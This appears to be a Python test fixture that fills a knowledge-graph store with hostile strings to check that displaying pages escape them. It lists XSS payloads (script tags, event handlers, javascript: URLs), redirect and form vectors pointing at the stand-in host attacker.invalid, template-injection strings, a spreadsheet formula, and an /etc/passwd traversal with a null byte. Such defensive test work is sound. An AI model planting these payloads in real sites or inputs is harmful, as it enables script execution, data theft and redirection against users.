"""A graph whose every name, alias, title, sentence, role, rating and content is an attack on who shows it."""

import hashlib
from pathlib import Path

from kg.graph import create, to_quads
from kg.types import Claim, Details, Document, Entity, Resolved, Status
from tests import factory

RUN = "window.__pwned=1;alert(1)"  # what no page may run
AWAY = "https://attacker.invalid/x"  # where no page may ask
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"<svg onload={RUN}>",
    f"<svg><script href={AWAY}.js></script></svg>",
    f"</text></svg><script>{RUN}</script>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f'<a href="javascript:{RUN}">a link</a>',
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"<form action={AWAY}><button>Send</button></form>",
    f"<base href={AWAY}>",
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<style>@import '{AWAY}.css'; * {{ background: url({AWAY}.png) }}</style>",
    f"{{{{ {RUN} }}}} ${{{RUN}}} <%= {RUN} %> {{% raw %}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f'\\u003cscript\\u003e{RUN}\\u003c/script\\u003e \u2028 \\"; {RUN} //',
    "\u202e\u2066detcirtser\u2069\u202c \u200b\u200f\u0008 \ufeff \ufffd",
    '=HYPERLINK("https://attacker.invalid") %3Cscript%3E ../../etc/passwd%00 <http://a> \'"`\\',
    "x" * 10_000,
)


def create_store(folder: Path) -> Path:
    """The store, built into the folder."""
    corpus = resolved()
    create(folder / "graph.kg", to_quads(corpus), {d.id: d.text for d in corpus.documents})
    return folder / "graph.kg"


def resolved() -> Resolved:
    """Each payload names a body, a person and a document; the bodies inspect one another in a ring."""
    bodies, people = [body(payload) for payload in PAYLOADS], [person(payload) for payload in PAYLOADS]
    documents = [_document(number, payload) for number, payload in enumerate(PAYLOADS)]
    claims = [
        claim
        for number, payload in enumerate(PAYLOADS)
        for claim in _claims(payload, documents[number], bodies[number - 1], bodies[number], people[number])
    ]
    return factory.resolved(*bodies, *people, *documents, *claims)


def body(payload: str) -> Entity:
    return _named(payload, "Organisation")


def person(payload: str) -> Entity:
    return _named(payload, "Person")


def _named(payload: str, kind: str) -> Entity:
    return factory.entity(
        f"{kind} {PAYLOADS.index(payload)} {payload}", kind, aliases=(payload, f"{payload} {payload[:50]}")
    )


def _document(number: int, payload: str) -> Document:
    text = f"It was said: {payload} in the first place.\n\nIt was denied: {payload} in the second.\n"
    return factory.document(
        f"d{number}",
        text,
        title=payload,
        source=f"docs/{payload[:60].replace('/', '_')}.txt",
        sha256=hashlib.sha256(text.encode()).hexdigest(),
    )


def _claims(payload: str, document: Document, above: Entity, below: Entity, person: Entity) -> tuple[Claim, ...]:
    first = factory.evidence(document, f"It was said: {payload} in the first place.", said_by=person.iri)
    second = factory.evidence(document, f"It was denied: {payload} in the second.")
    words = Details(rating=payload, content=(payload,))
    return (
        factory.claim(above, "inspects", below, first, details=words),
        factory.claim(above, "criticises", below, second, status=Status.ALLEGED, details=words),
        factory.claim(above, "investigates", below, second, status=Status.DENIED),
        factory.claim(person, "leads", below, first, details=Details(role=payload, valid_from="2014")),
    )
